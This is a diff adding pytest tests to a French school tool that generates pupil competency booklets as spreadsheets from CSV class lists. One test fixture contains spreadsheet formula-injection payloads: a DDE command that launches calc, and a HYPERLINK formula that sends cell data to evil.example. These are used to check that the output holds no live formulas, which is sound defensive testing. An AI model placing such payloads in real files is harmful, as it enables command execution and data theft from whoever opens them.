@@ -98,7 +98,7 @@ def test_importer_then_suivi(run, liste, sample_bank, tmp_path):
     assert "jamais évaluée" in out and "Novice" in out
     page = (tmp_path / "suivi" / "tableau-de-bord.html").read_text(encoding="utf-8")
     assert page.split("<tbody>")[1].count("<tr>") == 2 and "MARTIN Zoé" in page and "DURAND Léa" in page
-    assert page.startswith("<!DOCTYPE html>") and "<meta charset='utf-8'>" in page and f"{pairs - 1} à travailler" in page
+    assert page.startswith("<!DOCTYPE html>") and '<meta charset="utf-8">' in page and f"{pairs - 1} à travailler" in page
     pdfs = sorted((tmp_path / "suivi" / "syntheses").glob("*.pdf"))
     assert len(pdfs) == 2 and all(len(PdfReader(p).pages) >= 1 for p in pdfs)
 
@@ -117,3 +117,50 @@ def test_bad_grid_stops_the_import_and_keeps_nothing(run, liste, sample_bank, tm
 def test_suivi_before_any_booklet(run, liste, sample_bank, tmp_path):
     code, _, err = run("suivi", liste, "--banque", sample_bank, "--sortie", tmp_path / "suivi")
     assert code == 1 and "générez d'abord les livrets" in err
+
+
+def test_long_names_give_one_booklet_per_pupil(run, sample_bank, tmp_path):
+    stem = "De La Fontaine-Saint-Exupéry-Montmorency-Beauharnais-Villeneuve-Lès-Avignon"
+    path = tmp_path / "liste.csv"
+    path.write_text("nom;prénom;classe\n" + "".join(f"{stem} {x};Marie;1MCVB\n" for x in "ABC"), encoding="utf-8")
+    code, out, _ = livrets(run, path, sample_bank, tmp_path / "out")
+    assert code == 0 and "3 livret(s)" in out
+    assert len(list((tmp_path / "out").glob("*.xlsx"))) == 3 and len(class_bank(sample_bank, "1MCVB").list()) == 3
+
+
+@pytest.mark.parametrize("raw, reason", [
+    (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;L\x00a;1MCVB\n", "ligne 3 : caractère de contrôle"),
+    (b"nom;prenom;classe\nMartin;Lea;1MCVB\nDurand;;1MCVB\nRoux;Noe;\n", "ligne 3 : prénom : texte vide ; ligne 4"),
+])
+def test_a_bad_list_generates_nothing_at_all(run, sample_bank, tmp_path, raw, reason):
+    path = tmp_path / "liste.csv"
+    path.write_bytes(raw)
+    before = sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*"))
+    code, _, err = livrets(run, path, sample_bank, tmp_path / "out")
+    assert code == 1 and reason in err and "liste.csv" in err and "Traceback" not in err
+    assert not (tmp_path / "out").exists() and sorted(p.relative_to(sample_bank) for p in sample_bank.rglob("*")) == before
+
+
+def test_booklets_for_tutors_hold_no_live_formula(run, sample_bank, tmp_path):
+    from tests.sheetcheck import live_xlsx_cells
+
+    path = tmp_path / "liste.csv"
+    path.write_text('nom;prénom;classe;entreprise;tuteur\n=cmd|\' /C calc\'!A0;+1+1;1MCVB;'
+                    '"=HYPERLINK(""http://evil.example/?x=""&B2,""clic"")";@SUM(1)\n', encoding="utf-8")
+    code, _, _ = livrets(run, path, sample_bank, tmp_path / "out")
+    [xlsx] = (tmp_path / "out").glob("*.xlsx")
+    assert code == 0 and live_xlsx_cells(xlsx) == []
+
+
+def test_imported_grid_of_another_pupil_changes_nothing(run, liste, sample_bank, tmp_path):
+    livrets(run, liste, sample_bank, tmp_path / "out")
+    store = class_bank(sample_bank, "1MCVB")
+    first, second = sorted((tmp_path / "out").glob("*.xlsx"))
+    wb = load_workbook(second)
+    next(r for r in wb["_spirale"].iter_rows() if r[0].value == "livret")[1].value = first.stem
+    wb["Compétences"]["D3"] = "E"
+    wb.save(second)
+    before = {e.id: store.get(e.id).levels for e in store.list()}
+    code, _, err = run("importer", liste, second, "--banque", sample_bank)
+    assert code == 1 and "feuille cachée a été modifiée" in err and "rien n'a été importé" in err
+    assert {e.id: store.get(e.id).levels for e in store.list()} == before
